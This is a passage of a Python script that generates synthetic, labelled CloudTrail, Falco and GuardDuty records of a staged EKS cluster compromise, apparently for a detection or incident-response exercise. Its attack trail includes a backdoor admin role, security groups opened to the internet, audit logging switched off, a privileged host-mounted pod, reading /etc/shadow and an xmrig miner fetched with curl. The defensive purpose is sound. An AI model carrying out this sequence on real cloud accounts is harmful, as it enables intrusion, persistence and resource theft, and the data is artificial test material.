                      "createDate": iam_date(t_role), "assumeRolePolicyDocument": urllib.parse.quote(trust_s, safe=""),
                      "description": "EKS backup operator"}},
       ua=AWSCLI + "iam.create-role", read_only=False, step="aws-create-role", **A)
    t_ae = T("08:56:03")
    ae_arn = f"arn:aws:eks:{REGION}:{ACCOUNT}:access-entry/{CLUSTER}/role/{ACCOUNT}/{EVIL_ROLE}/a2c6e8f0-1b3d-5e7f-9a1c-3e5f7a9b1d3f"
    ct(t_ae, ci, "eks.amazonaws.com", "CreateAccessEntry",
       params={"name": CLUSTER, "principalArn": EVIL_ROLE_ARN, "clientRequestToken": uid()},
       resp={"accessEntry": {"clusterName": CLUSTER, "principalArn": EVIL_ROLE_ARN, "kubernetesGroups": [],
                             "accessEntryArn": ae_arn, "createdAt": epoch(t_ae) + 0.412, "modifiedAt": epoch(t_ae) + 0.412,
                             "tags": {}, "username": f"arn:aws:sts::{ACCOUNT}:assumed-role/{EVIL_ROLE}/{{{{SessionName}}}}",
                             "type": "STANDARD"}},
       ua=AWSCLI + "eks.create-access-entry", read_only=False, step="aws-create-access-entry", **A)
    t_ap = T("08:56:19")
    ct(t_ap, ci, "eks.amazonaws.com", "AssociateAccessPolicy",
       params={"policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
               "accessScope": {"type": "cluster"}, "name": CLUSTER,
               "principalArn": urllib.parse.quote(EVIL_ROLE_ARN, safe="")},
       resp={"clusterName": CLUSTER, "principalArn": EVIL_ROLE_ARN,
             "associatedAccessPolicy": {"policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
                                        "accessScope": {"type": "cluster", "namespaces": []},
                                        "associatedAt": epoch(t_ap) + 0.207, "modifiedAt": epoch(t_ap) + 0.207}},
       ua=AWSCLI + "eks.associate-access-policy", read_only=False, step="aws-associate-admin-policy", **A)
    for port, t_sg, rule in ((22, T("08:58:44"), "sgr-0e1f2a3b4c5d6e7f8"), (10250, T("08:58:51"), "sgr-0f2a3b4c5d6e7f809")):
        rid = uid()
        r = ct(t_sg, ci, "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress",
               params={"groupId": CLUSTER_SG, "ipPermissions": {}, "ipProtocol": "tcp", "fromPort": port, "toPort": port,
                       "cidrIp": "0.0.0.0/0"},
               resp={"requestId": rid, "_return": True, "securityGroupRuleSet": {"items": [
                   {"groupOwnerId": ACCOUNT, "groupId": CLUSTER_SG, "securityGroupRuleId": rule, "isEgress": False,
                    "ipProtocol": "tcp", "fromPort": port, "toPort": port, "cidrIpv4": "0.0.0.0/0"}]}},
               ua=AWSCLI + "ec2.authorize-security-group-ingress", read_only=False, step="aws-open-security-group", **A)
        r["requestID"] = rid
    t_key = T("09:00:30")
    ct(t_key, ci, "iam.amazonaws.com", "CreateAccessKey", params={"userName": CI_USER},
       resp={"accessKey": {"userName": CI_USER, "accessKeyId": CI_KEY_NEW, "status": "Active", "createDate": iam_date(t_key)}},
       ua=AWSCLI + "iam.create-access-key", read_only=False, step="aws-create-access-key", **A)
    t_log = T("09:05:12")
    logging_off = {"clusterLogging": [{"types": ["api", "audit", "authenticator"], "enabled": False}]}
    ct(t_log, ci, "eks.amazonaws.com", "UpdateClusterConfig",
       params={"name": CLUSTER, "logging": logging_off, "clientRequestToken": uid()},
       resp={"update": {"id": "8c3f9a2e-5b7d-3e1f-a4c6-9d0b2e8f6a1c", "status": "InProgress", "type": "LoggingUpdate",
                        "params": [{"type": "ClusterLogging", "value": json.dumps(logging_off, separators=(",", ":"))}],
                        "createdAt": epoch(t_log) + 0.733, "errors": []}},
       ua=AWSCLI + "eks.update-cluster-config", read_only=False, step="aws-disable-audit-logging", **A)
    # the attacker's own account assumes the new role and uses it; the new access key is tried
    t_ar = T("09:08:05")
    evil_key = akid("ASIA")
    ct(t_ar, {"type": "AWSAccount", "principalId": ATTACKER_USER_ID, "accountId": ATTACKER_ACCOUNT},
       "sts.amazonaws.com", "AssumeRole", params={"roleArn": EVIL_ROLE_ARN, "roleSessionName": EVIL_SESSION},
       resp={"credentials": {"accessKeyId": evil_key, "sessionToken": fake_session_token(),
                             "expiration": iam_date(t_ar + timedelta(hours=1))},
             "assumedRoleUser": {"assumedRoleId": f"{EVIL_ROLE_ID}:{EVIL_SESSION}",
                                 "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{EVIL_ROLE}/{EVIL_SESSION}"}},
       ua=AWSCLI + "sts.assume-role", version="1.08", step="aws-use-backdoor-role",
       resources=[{"accountId": ACCOUNT, "type": "AWS::IAM::Role", "ARN": EVIL_ROLE_ARN}],
       after={"sharedEventID": uid()}, **A)
    ct(T("09:08:40"), id_role(EVIL_ROLE, EVIL_ROLE_ID, EVIL_SESSION, evil_key, t_ar), "eks.amazonaws.com", "DescribeCluster",
       params={"name": CLUSTER}, ua=AWSCLI + "eks.update-kubeconfig", step="aws-use-backdoor-role", **A)
    ct(T("09:09:03"), id_ci(CI_KEY_NEW), "sts.amazonaws.com", "GetCallerIdentity", ua=AWSCLI + "sts.get-caller-identity",
       version="1.08", step="aws-use-new-access-key", **A)


def benign_trail():
    B = dict(label="benign")
    # the old Jenkins refreshes feature flags every night with ci-deployer
    ct(T("03:09:33"), id_ci(CI_KEY), "eks.amazonaws.com", "DescribeCluster", params={"name": CLUSTER}, ip=JENKINS_IP,
       ua=AWSCLI_JENKINS + "eks.update-kubeconfig", step="nightly-jenkins", **B)
    # GitHub Actions rollouts (06:11 and 07:48 also reach the Kubernetes API; 13:18 does too but audit logging is off by then)
    keys = {}
    for hhmm, start in (("0611", T("06:10:41")), ("0748", T("07:47:58")), ("1318", T("13:18:22"))):
        keys[hhmm], _ = gha_deploy_trail(start, hhmm)
    # an SRE looks at the cluster in the console before the attack starts
    sre_key = akid("ASIA")
    sre = id_role(SRE_ROLE, SRE_ROLE_ID, SRE_SESSION, sre_key, T("08:29:50"))
    sre["arn"] = f"arn:aws:sts::{ACCOUNT}:assumed-role/{SRE_ROLE}/{SRE_SESSION}"
    sre["sessionContext"]["sessionIssuer"]["arn"] = f"arn:aws:iam::{ACCOUNT}:role/aws-reserved/sso.amazonaws.com/{SRE_ROLE}"
    for t, name, params in ((T("08:31:12"), "DescribeCluster", {"name": CLUSTER}),
                            (T("08:31:14"), "ListNodegroups", {"name": CLUSTER}),
                            (T("08:31:19"), "DescribeNodegroup", {"name": CLUSTER, "nodegroupName": NODEGROUP})):
        ct(t, sre, "eks.amazonaws.com", name, params=params, ip=SRE_IP, ua=CONSOLE_UA, console=True, step="sre-console", **B)
    # Background calls (nodes' ECR credential provider and VPC CNI through the NAT gateway, the EKS
    # service-linked role), only in the 5-minute windows that the responder copied from S3: the
    # windows that hold the events above.
    windows = sorted({floor5(parse_ct_time(r)) for r, _, _ in CT})
    for w in windows:
        for _ in range(rng.randint(1, 3)):
            t = w + timedelta(seconds=rng.randint(0, 299))
            n = rng.choice(NODES)
            kind = rng.random()
            if kind < 0.4:
                ct(t, id_node(n, t - timedelta(minutes=rng.randint(5, 50))), "ecr.amazonaws.com", "GetAuthorizationToken",
                   params={"registryIds": [ACCOUNT]}, ip=NAT_IP, ua=ECR_PROVIDER_UA, version="1.08", step="background", **B)
            elif kind < 0.8:
                ct(t, id_node(n, t - timedelta(minutes=rng.randint(5, 50))), "ec2.amazonaws.com", "DescribeNetworkInterfaces",
                   params={"networkInterfaceIdSet": {}, "filterSet": {"items": [
                       {"name": "attachment.instance-id", "valueSet": {"items": [{"value": n.instance}]}}]}},
                   ip=NAT_IP, ua=CNI_UA, step="background", **B)
            else:
                ct(t, id_eks_slr(t - timedelta(minutes=3)), "ec2.amazonaws.com",
                   rng.choice(["DescribeNetworkInterfaces", "DescribeSecurityGroups"]),
                   params={"filterSet": {"items": [{"name": "tag:aws:eks:cluster-name", "valueSet": {"items": [{"value": CLUSTER}]}}]}},
                   ip="eks.amazonaws.com", ua="eks.amazonaws.com", step="background", tls=False, **B)
    return keys


# ---------------------------------------------------------------------------------------------
# Falco (json_output: true), syscall alerts from the DaemonSet, k8s_audit alerts from k8saudit-eks
# ---------------------------------------------------------------------------------------------
FALCO = []   # (alert, label, step)
FALCO_K8SAUDIT_HOST = "falco-k8saudit-eks-6d9c7b8f4d-mq2lx"
EVIL_CID = EVIL_CONTAINER_ID[:12]


def falco(t, extra_ns, rule, priority, source, hostname, tags, message, fields, text_fields=None, paren=False,
          label="attack", step=None):
    ts = t.strftime("%H:%M:%S.") + f"{t.microsecond:06d}{extra_ns:03d}"
    if paren:   # k8s_audit rules keep the classic "(k=v ...)" output
        output = f"{ts}: {priority} {message}"
    else:       # syscall rules since Falco 0.36: "message | k=v k=v ..."
        output = f"{ts}: {priority} {message} | " + " ".join(f"{k}={v}" for k, v in text_fields)
    of = {"evt.time": epoch_ns(t, extra_ns)}
    of.update(fields)
    alert = {"hostname": hostname, "output": output, "output_fields": dict(sorted(of.items())), "priority": priority,
             "rule": rule, "source": source, "tags": sorted(tags), "time": iso_ns(t, extra_ns)}
    FALCO.append((alert, label, step))


def container_text(pod, ns, cid, repo, tag, name):
    return [("container_id", cid), ("container_name", name), ("container_image_repository", repo),
            ("container_image_tag", tag), ("k8s_pod_name", pod), ("k8s_ns_name", ns)]


def container_fields(pod, ns, cid, repo, tag, name):
    return {"container.id": cid, "container.image.repository": repo, "container.image.tag": tag,
            "container.name": name, "k8s.ns.name": ns, "k8s.pod.name": pod}


MINER_EXEC = T("08:52:41.190554")
MINER_EXEC_NS = epoch_ns(MINER_EXEC, 27)
DROP_CTIME = epoch_ns(T("08:52:38.127662"), 910)   # curl wrote the binary 3 s before it ran


def falco_alerts():
    K = dict(source="k8s_audit", hostname=FALCO_K8SAUDIT_HOST, tags=["k8s"], paren=True)
    ka = lambda **kw: {f"ka.{k.replace('__', '.')}": v for k, v in kw.items()}
    falco(T("08:47:02.241006"), 118, "K8s Serviceaccount Created", "Informational",
          message=f"K8s Serviceaccount Created (user={CI_USER} serviceaccount={BACKUP_SA} ns=default resource=serviceaccounts resp=201 decision=allow reason={REASON_CI})",
          fields=ka(user__name=CI_USER, target__name=BACKUP_SA, target__namespace="default", target__resource="serviceaccounts",
                    response__code="201", auth__decision="allow", auth__reason=REASON_CI),
          step="k8s-create-serviceaccount", **K)
    falco(T("08:47:20.530118"), 402, "Attach to cluster-admin Role", "Warning",
          message=f"Cluster Role Binding to cluster-admin role (user={CI_USER} subject=({BACKUP_SA}))",
          fields=ka(user__name=CI_USER, **{"req.binding.subjects": [BACKUP_SA]}, target__name=BACKUP_CRB),
          step="k8s-create-clusterrolebinding", **K)
    pod_fields = ka(user__name=CI_USER, resp__name=EVIL_POD, target__namespace=EVIL_NS, target__resource="pods",
                    **{"req.pod.containers.image": [EVIL_IMAGE]})
    falco(T("08:49:10.497731"), 15, "Create Privileged Pod", "Warning",
          message=f"Pod started with privileged container (user={CI_USER} pod={EVIL_POD} resource=pods ns={EVIL_NS} images=({EVIL_IMAGE}) init_images=<NA> ephemeral_images=<NA>)",
          fields=dict(pod_fields, **ka(**{"req.pod.initContainers.image": None, "req.pod.ephemeralContainers.image": None})),
          step="k8s-create-privileged-pod", **K)
    falco(T("08:49:10.497731"), 15, "Create Sensitive Mount Pod", "Warning",
          message=f'Pod started with sensitive mount (user={CI_USER} pod={EVIL_POD} ns={EVIL_NS} resource=pods images=({EVIL_IMAGE}) volumes=[{{"hostPath":{{"path":"/"}},"name":"host-root"}}])',
          fields=dict(pod_fields, **{"jevt.value[/requestObject/spec/volumes]": '[{"hostPath":{"path":"/"},"name":"host-root"}]'}),
          step="k8s-create-privileged-pod", **K)
    falco(T("08:49:10.497731"), 15, "Create HostPid Pod", "Warning",
          message=f"Pod started using host pid namespace (user={CI_USER} pod={EVIL_POD} resource=pods ns={EVIL_NS} images=({EVIL_IMAGE}))",
          fields=pod_fields, step="k8s-create-privileged-pod", **K)
    falco(T("08:49:10.497731"), 15, "Pod Created in Kube Namespace", "Warning",
          message=f"Pod created in kube namespace (user={CI_USER} pod={EVIL_POD} resource=pods ns={EVIL_NS} images=({EVIL_IMAGE}))",
          fields=pod_fields, step="k8s-create-privileged-pod", **K)
    falco(T("08:50:05.421093"), 640, "Attach/Exec Pod", "Notice",
          message=f"Attach/Exec to pod (user={CI_USER} pod={EVIL_POD} resource=pods ns={EVIL_NS} action=exec command=sh)",
          fields=ka(user__name=CI_USER, target__name=EVIL_POD, target__namespace=EVIL_NS, target__resource="pods",
                    target__subresource="exec", **{"uri.param[command]": "sh"}),
          step="k8s-exec", **K)

    S = dict(source="syscall", hostname=EVIL_NODE.name)
    ctext = container_text(EVIL_POD, EVIL_NS, EVIL_CID, EVIL_IMAGE_REPO, "latest", "backup")
    cfields = container_fields(EVIL_POD, EVIL_NS, EVIL_CID, EVIL_IMAGE_REPO, "latest", "backup")
    falco(T("08:50:06.218447"), 193, "Terminal shell in container", "Notice",
          tags=["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
          message="A shell was spawned in a container with an attached terminal",
          text_fields=[("evt_type", "execve"), ("user", "root"), ("user_uid", "0"), ("user_loginuid", "-1"),
                       ("process", "sh"), ("proc_exepath", "/bin/busybox"), ("parent", "runc"), ("command", "sh"),
                       ("terminal", "34816"), ("exe_flags", "EXE_WRITABLE|EXE_LOWER_LAYER")] + ctext,
          fields=dict(cfields, **{"evt.arg.flags": "EXE_WRITABLE|EXE_LOWER_LAYER", "evt.type": "execve",
                                  "proc.cmdline": "sh", "proc.exepath": "/bin/busybox", "proc.name": "sh",
                                  "proc.pname": "runc", "proc.tty": 34816, "user.loginuid": -1, "user.name": "root",
                                  "user.uid": 0}),
          step="runtime-shell", **S)
    falco(T("08:51:02.774302"), 551, "Read sensitive file untrusted", "Warning",
          tags=["T1555", "container", "filesystem", "host", "maturity_stable", "mitre_credential_access"],
          message="Sensitive file opened for reading by non-trusted program",
          text_fields=[("file", "/etc/shadow"), ("gparent", "chroot"), ("ggparent", "sh"), ("gggparent", "runc"),
                       ("evt_type", "openat"), ("user", "root"), ("user_uid", "0"), ("user_loginuid", "-1"),
                       ("process", "cat"), ("proc_exepath", "/usr/bin/cat"), ("parent", "bash"),
                       ("command", "cat /etc/shadow"), ("terminal", "34816")] + ctext,
          fields=dict(cfields, **{"evt.type": "openat", "fd.name": "/etc/shadow", "proc.aname[2]": "chroot",
                                  "proc.aname[3]": "sh", "proc.aname[4]": "runc", "proc.cmdline": "cat /etc/shadow",
                                  "proc.exepath": "/usr/bin/cat", "proc.name": "cat", "proc.pname": "bash",
                                  "proc.tty": 34816, "user.loginuid": -1, "user.name": "root", "user.uid": 0}),
          step="runtime-host-access", **S)
    falco(T("08:52:41.190554"), 27, "Drop and execute new binary in container", "Critical",
          tags=["T1036", "container", "maturity_stable", "mitre_defense_evasion", "mitre_persistence", "process"],
          message="Executing binary not part of base image",
          text_fields=[("proc_exe", MINER_PATH), ("proc_sname", "sh"), ("gparent", "runc"), ("proc_exe_ino_ctime", str(DROP_CTIME)),
                       ("proc_exe_ino_mtime", str(DROP_CTIME)), ("proc_exe_ino_ctime_duration_proc_start", str(MINER_EXEC_NS - DROP_CTIME)),
                       ("proc_cwd", "/tmp/.x/"), ("container_start_ts", str(epoch_ns(EVIL_STARTED))), ("evt_type", "execve"),
                       ("user", "root"), ("user_uid", "0"), ("user_loginuid", "-1"), ("process", "xmrig"),
                       ("proc_exepath", MINER_PATH), ("parent", "sh"), ("command", MINER_CMDLINE),
                       ("terminal", "34816"), ("exe_flags", "EXE_WRITABLE|EXE_UPPER_LAYER")] + ctext,
          fields=dict(cfields, **{"container.start_ts": epoch_ns(EVIL_STARTED), "evt.arg.flags": "EXE_WRITABLE|EXE_UPPER_LAYER",
                                  "evt.type": "execve", "proc.aname[2]": "runc", "proc.cmdline": MINER_CMDLINE,
                                  "proc.cwd": "/tmp/.x/", "proc.exe": MINER_PATH, "proc.exe_ino.ctime": DROP_CTIME,
                                  "proc.exe_ino.mtime": DROP_CTIME, "proc.exe_ino.ctime_duration_proc_start": MINER_EXEC_NS - DROP_CTIME,
                                  "proc.exepath": MINER_PATH, "proc.name": "xmrig", "proc.pid": MINER_PID, "proc.pname": "sh",
                                  "proc.sname": "sh", "proc.tty": 34816, "user.loginuid": -1, "user.name": "root", "user.uid": 0}),
          step="runtime-miner", **S)
    falco(T("08:52:41.190554"), 27, "Detect crypto miners using the Stratum protocol", "Critical",
          tags=["T1496", "maturity_sandbox", "mitre_impact", "process"],
          message="Possible miners running",
          text_fields=[("command", MINER_CMDLINE), ("pid", str(MINER_PID)),
                       ("evt_type", "execve"), ("user", "root"), ("user_uid", "0"), ("user_loginuid", "-1"),
                       ("process", "xmrig"), ("proc_exepath", MINER_PATH), ("parent", "sh"), ("terminal", "34816")] + ctext,
          fields=dict(cfields, **{"evt.type": "execve", "proc.cmdline": MINER_CMDLINE,
                                  "proc.exepath": MINER_PATH, "proc.name": "xmrig", "proc.pid": MINER_PID, "proc.pname": "sh",
                                  "proc.tty": 34816, "user.loginuid": -1, "user.name": "root", "user.uid": 0}),
          step="runtime-miner", **S)
    falco(T("08:52:44.603817"), 905, "Detect outbound connections to common miner pool ports", "Critical",
          tags=["T1496", "maturity_sandbox", "mitre_impact", "network"],
          message="Outbound connection to IP/Port flagged by https://cryptoioc.ch",
          text_fields=[("ip", POOL_IP), ("port", str(POOL_PORT)), ("command", MINER_CMDLINE),
                       ("pid", str(MINER_PID)), ("evt_type", "connect"), ("user", "root"), ("user_uid", "0"),
                       ("user_loginuid", "-1"), ("process", "xmrig"), ("proc_exepath", MINER_PATH), ("parent", "sh"),
                       ("terminal", "34816")] + ctext,
          fields=dict(cfields, **{"evt.type": "connect", "fd.name": f"{EVIL_POD_IP}:48212->{POOL_IP}:{POOL_PORT}",
                                  "fd.rip": POOL_IP, "fd.rport": POOL_PORT, "proc.cmdline": MINER_CMDLINE,
                                  "proc.exepath": MINER_PATH, "proc.name": "xmrig", "proc.pid": MINER_PID, "proc.pname": "sh",
                                  "proc.tty": 34816, "user.loginuid": -1, "user.name": "root", "user.uid": 0}),
          step="runtime-miner", **S)
    # a known false positive: cert-manager talks to the API server by design
    cm = CERT_MANAGER
    cm_cid = hashlib.sha256(f"{cm.ns}/{cm.name}/cert-manager-controller".encode()).hexdigest()[:12]
    falco(T("07:12:33.050912"), 441, "Contact K8S API Server From Container", "Notice", source="syscall",
          hostname=cm.node.name, tags=["T1565", "container", "k8s", "maturity_stable", "mitre_discovery", "network"],
          message="Unexpected connection to K8s API Server from container",
          text_fields=[("connection", f"{cm.ip}:51844->172.20.0.1:443"), ("lport", "51844"), ("rport", "443"),
                       ("fd_type", "ipv4"), ("fd_proto", "tcp"), ("evt_type", "connect"), ("user", "<NA>"), ("user_uid", "1000"),
                       ("user_loginuid", "-1"), ("process", "controller"), ("proc_exepath", "/app/cmd/controller/controller"),
                       ("parent", "containerd-shim"), ("command", "controller --v=2 --cluster-resource-namespace=cert-manager --leader-election-namespace=kube-system"),
                       ("terminal", "0")] + container_text(cm.name, cm.ns, cm_cid, "quay.io/jetstack/cert-manager-controller", "v1.16.3", "cert-manager-controller"),
          fields=dict(container_fields(cm.name, cm.ns, cm_cid, "quay.io/jetstack/cert-manager-controller", "v1.16.3", "cert-manager-controller"),
                      **{"evt.type": "connect", "fd.name": f"{cm.ip}:51844->172.20.0.1:443", "fd.lport": 51844, "fd.rport": 443,
                         "fd.l4proto": "tcp", "fd.type": "ipv4", "proc.cmdline": "controller --v=2 --cluster-resource-namespace=cert-manager --leader-election-namespace=kube-system",
                         "proc.exepath": "/app/cmd/controller/controller", "proc.name": "controller", "proc.pname": "containerd-shim",
                         "proc.tty": 0, "user.loginuid": -1, "user.name": None, "user.uid": 1000}),
          label="benign", step="false-positive")


# ---------------------------------------------------------------------------------------------
# GuardDuty: findings in the API (camelCase) form; get-findings output is derived in PascalCase
# ---------------------------------------------------------------------------------------------
FINDINGS = []   # (finding, label, step)


def eks_cluster_details():
    return {"name": CLUSTER, "arn": CLUSTER_ARN, "vpcId": VPC_ID, "status": "ACTIVE",
            "tags": [{"key": "team", "value": "payments"}, {"key": "env", "value": "production"}],
            "createdAt": epoch(datetime.strptime(CLUSTER_CREATED, "%Y-%m-%dT%H:%M:%S.%fZ").replace(tzinfo=timezone.utc))}


def remote_ip(ip, country="Netherlands", city="Amsterdam", asn="64501", org="Example Hosting B.V."):
    return {"ipAddressV4": ip,
            "organization": {"asn": asn, "asnOrg": org.upper().replace(" ", "-").replace(".", ""), "isp": org, "org": org},
            "country": {"countryName": country}, "city": {"cityName": city},
            "geoLocation": {"lat": 52.3759, "lon": 4.8975}}


def ci_user_details():
    return {"username": CI_USER, "uid": U_CI["uid"], "groups": U_CI["groups"]}


def ci_access_key_details():
    return {"accessKeyId": CI_KEY, "principalId": CI_USER_ID, "userName": CI_USER, "userType": "IAMUser"}


def evil_workload():
    return {"name": EVIL_POD, "type": "pods", "uid": EVIL_POD_UID, "namespace": EVIL_NS, "hostNetwork": False,
            "hostPID": True, "hostIPC": False, "serviceAccountName": "default",
            "containers": [{"name": "backup", "image": EVIL_IMAGE, "imagePrefix": f"{ATTACKER_IP}:5000",
                            "volumeMounts": [{"name": "host-root", "mountPath": "/host"}],
                            "securityContext": {"privileged": True, "allowPrivilegeEscalation": True}}],
            "volumes": [{"name": "host-root", "hostPath": {"path": "/"}}]}


def instance_details(n):
    return {"instanceId": n.instance, "instanceType": "m6i.xlarge", "launchTime": n.launched.replace("Z", ".000Z"),
            "platform": None, "productCodes": [],
            "iamInstanceProfile": {"arn": f"arn:aws:iam::{ACCOUNT}:instance-profile/eks-{NODEGROUP}-7ac6b2d4-1f3e-9a5c-b8d0-2e4f6a8c0b1d",
                                   "id": "AIPARQ4WZT7KJ3N6Q2VXB"},
            "networkInterfaces": [{"ipv6Addresses": [], "networkInterfaceId": "eni-0" + hashlib.md5(n.instance.encode()).hexdigest()[:16],
                                   "privateDnsName": n.name, "privateIpAddress": n.ip,
                                   "privateIpAddresses": [{"privateDnsName": n.name, "privateIpAddress": n.ip}],
                                   "subnetId": SUBNETS[n.zone], "vpcId": VPC_ID,
                                   "securityGroups": [{"groupName": CLUSTER_SG_NAME, "groupId": CLUSTER_SG}]}],
            "outpostArn": None,
            "tags": [{"key": "eks:cluster-name", "value": CLUSTER}, {"key": "eks:nodegroup-name", "value": NODEGROUP},
                     {"key": f"kubernetes.io/cluster/{CLUSTER}", "value": "owned"},
                     {"key": "aws:eks:cluster-name", "value": CLUSTER}],
            "instanceState": "running", "availabilityZone": n.zone, "imageId": NODE_AMI,
            "imageDescription": "EKS-optimized Kubernetes node based on Amazon Linux 2023, (k8s: 1.32.1, containerd: 1.7.*)"}


def finding(fid, ftype, severity, title, desc, resource, service, created, updated, label="attack", step=None):
    f = {"schemaVersion": "2.0", "accountId": ACCOUNT, "region": REGION, "partition": "aws", "id": fid,
         "arn": f"arn:aws:guardduty:{REGION}:{ACCOUNT}:detector/{DETECTOR_ID}/finding/{fid}", "type": ftype,
         "resource": resource, "service": service, "severity": severity, "createdAt": iso_ms(created),
         "updatedAt": iso_ms(updated), "title": title, "description": desc}
    FINDINGS.append((f, label, step))
    return f


def service_block(first, last, count, action, feature=None, extra=None):
    s = {"serviceName": "guardduty", "detectorId": DETECTOR_ID}
    if feature:
        s["featureName"] = feature
    s["action"] = action
    if extra:
        s.update(extra)
    s.update({"resourceRole": "TARGET", "additionalInfo": {"value": "{}", "type": "default"},
              "eventFirstSeen": iso_ms(first), "eventLastSeen": iso_ms(last), "archived": False, "count": count})
    return s


def guardduty_findings():
    # 1. list/get secrets from a threat-listed IP
    act = {"actionType": "KUBERNETES_API_CALL", "kubernetesApiCallAction": {
        "requestUri": "/api/v1/secrets", "verb": "list", "sourceIPs": [ATTACKER_IP], "userAgent": KUBECTL_ATTACKER,
        "remoteIpDetails": remote_ip(ATTACKER_IP), "statusCode": 200, "resource": "secrets"}}
    finding("4ec6f1a2b3c4d5e6f7a8b9c0d1e2f3a4", "CredentialAccess:Kubernetes/MaliciousIPCaller", 8,
            "Kubernetes API commonly used in CredentialAccess tactics invoked from a known malicious IP address.",
            f"Kubernetes API commonly used in CredentialAccess tactics was invoked on cluster {CLUSTER} from known malicious IP address {ATTACKER_IP}.",
            {"resourceType": "EKSCluster", "eksClusterDetails": eks_cluster_details(),
             "kubernetesDetails": {"kubernetesUserDetails": ci_user_details(), "kubernetesWorkloadDetails": None},
             "accessKeyDetails": ci_access_key_details()},
            service_block(T("08:44:02.309"), T("08:44:37.015"), 3, act,
                          extra={"evidence": {"threatIntelligenceDetails": [{"threatListName": "ProofPoint", "threatNames": []}]}}),
            T("08:49:31.512"), T("08:54:02.118"), step="detect-malicious-ip")
    # 2. privileged workload from an image this user never deployed before
    act = {"actionType": "KUBERNETES_API_CALL", "kubernetesApiCallAction": {
        "requestUri": f"/api/v1/namespaces/{EVIL_NS}/pods", "verb": "create", "sourceIPs": [ATTACKER_IP],
        "userAgent": KUBECTL_ATTACKER, "remoteIpDetails": remote_ip(ATTACKER_IP), "statusCode": 201,
        "resource": "pods", "namespace": EVIL_NS, "resourceName": EVIL_POD}}
    anomaly = {"anomaly": {
        "profiles": {"USER": {"IMAGE": [{"profileType": "FREQUENCY", "profileSubtype": "FREQUENT",
                                         "observations": {"text": [PAY_IMAGES["0748"].split(":")[0]]}}]}},
        "unusual": {"behavior": {"USER": {"IMAGE": {"profileType": "FREQUENCY", "profileSubtype": "UNSEEN",
                                                    "observations": {"text": [EVIL_IMAGE]}}}}}}}
    finding("7b1d9e3f5a7c9e1b3d5f7a9c1e3b5d7f", "PrivilegeEscalation:Kubernetes/AnomalousBehavior.WorkloadDeployed!PrivilegedContainer", 8,
            "A privileged container was deployed in an anomalous manner.",
            f"A privileged container {EVIL_POD} was launched on EKS Cluster {CLUSTER} by user {CI_USER} in an anomalous manner. "
            "This may indicate that your credentials are compromised.",
            {"resourceType": "EKSCluster", "eksClusterDetails": eks_cluster_details(),
             "kubernetesDetails": {"kubernetesUserDetails": ci_user_details(), "kubernetesWorkloadDetails": evil_workload()},
             "accessKeyDetails": ci_access_key_details()},
            service_block(T("08:49:10.482"), T("08:49:10.482"), 1, act, extra={"detection": anomaly}),
            T("08:55:47.260"), T("08:55:47.260"), step="detect-privileged-pod")
    # 3. exec into a kube-system pod
    act = {"actionType": "KUBERNETES_API_CALL", "kubernetesApiCallAction": {
        "requestUri": f"/api/v1/namespaces/{EVIL_NS}/pods/{EVIL_POD}/exec?command=sh&container=backup&stdin=true&stdout=true&tty=true",
        "verb": "create", "sourceIPs": [ATTACKER_IP], "userAgent": KUBECTL_ATTACKER, "remoteIpDetails": remote_ip(ATTACKER_IP),
        "statusCode": 101, "resource": "pods", "subresource": "exec", "namespace": EVIL_NS, "resourceName": EVIL_POD}}
    finding("a93c5e7f1b3d5f7a9c1e3f5b7d9a1c3e", "Execution:Kubernetes/ExecInKubeSystemPod", 5,
            "Command executed inside a pod in kube-system namespace.",
            f"A command was executed inside a pod in kube-system namespace on EKS Cluster {CLUSTER}.",
            {"resourceType": "EKSCluster", "eksClusterDetails": eks_cluster_details(),
             "kubernetesDetails": {"kubernetesUserDetails": ci_user_details(), "kubernetesWorkloadDetails": evil_workload()},
             "accessKeyDetails": ci_access_key_details()},
            service_block(T("08:50:05.377"), T("08:50:05.377"), 1, act),
            T("08:56:20.904"), T("08:56:20.904"), step="detect-exec")
    # 4 and 5. runtime: a new binary and then bitcoin-tool traffic from the container on the node
    container = {"containerRuntime": "containerd", "id": EVIL_CONTAINER_ID, "name": "backup", "image": EVIL_IMAGE,
                 "imagePrefix": f"{ATTACKER_IP}:5000",
                 "securityContext": {"privileged": True, "allowPrivilegeEscalation": True}}
    shell_uuid, miner_uuid = "0c2e4a6b-8d1f-4b3c-9e5a-7f1d3b5c7e9a", "5e7a9c1d-3f5b-4d7e-8a1c-2e4f6a8b0c2d"
    process = {"name": "xmrig", "executablePath": MINER_PATH, "executableSha256": MINER_SHA256,
               "namespacePid": MINER_PID, "pwd": "/tmp/.x", "pid": MINER_PID, "startTime": epoch(MINER_EXEC),
               "uuid": miner_uuid, "parentUuid": shell_uuid, "user": "root", "userId": 0, "euid": 0,
               "lineage": [{"startTime": epoch(T("08:50:06.218447")), "namespacePid": SHELL_PID, "userId": 0, "name": "sh",
                            "pid": SHELL_PID, "uuid": shell_uuid, "executablePath": "/bin/busybox", "euid": 0,
                            "parentUuid": "9a1b2c3d-4e5f-4a6b-8c7d-0e1f2a3b4c5d"}]}
    rt_resource = {"resourceType": "EKSCluster", "eksClusterDetails": eks_cluster_details(),
                   "kubernetesDetails": {"kubernetesWorkloadDetails": evil_workload()},
                   "instanceDetails": instance_details(EVIL_NODE), "containerDetails": container}
    finding("c2e4a6b8d0f2a4c6e8b0d2f4a6c8e0b2", "Execution:Runtime/NewBinaryExecuted", 5,
            "A newly created or recently modified binary file has been executed in a container.",
            f"A newly created or recently modified binary file {MINER_PATH} has been executed in container backup "
            f"of pod {EVIL_POD} on EKS Cluster {CLUSTER}.",
            copy.deepcopy(rt_resource),
            service_block(MINER_EXEC, MINER_EXEC, 1, {}, feature="RuntimeMonitoring",
                          extra={"runtimeDetails": {"process": process, "context": {"modifyingProcess": {
                              "name": "curl", "executablePath": "/usr/bin/curl", "pid": 31790, "namespacePid": 31790,
                              "uuid": "3d5f7b9a-1c3e-4f5a-8b7d-9e1f3a5c7b9d", "userId": 0, "euid": 0,
                              "startTime": epoch(T("08:52:36.904118"))}, "modifiedAt": epoch(T("08:52:38.127662"))}}}),
            T("08:57:12.331"), T("08:57:12.331"), step="detect-new-binary")
    act = {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
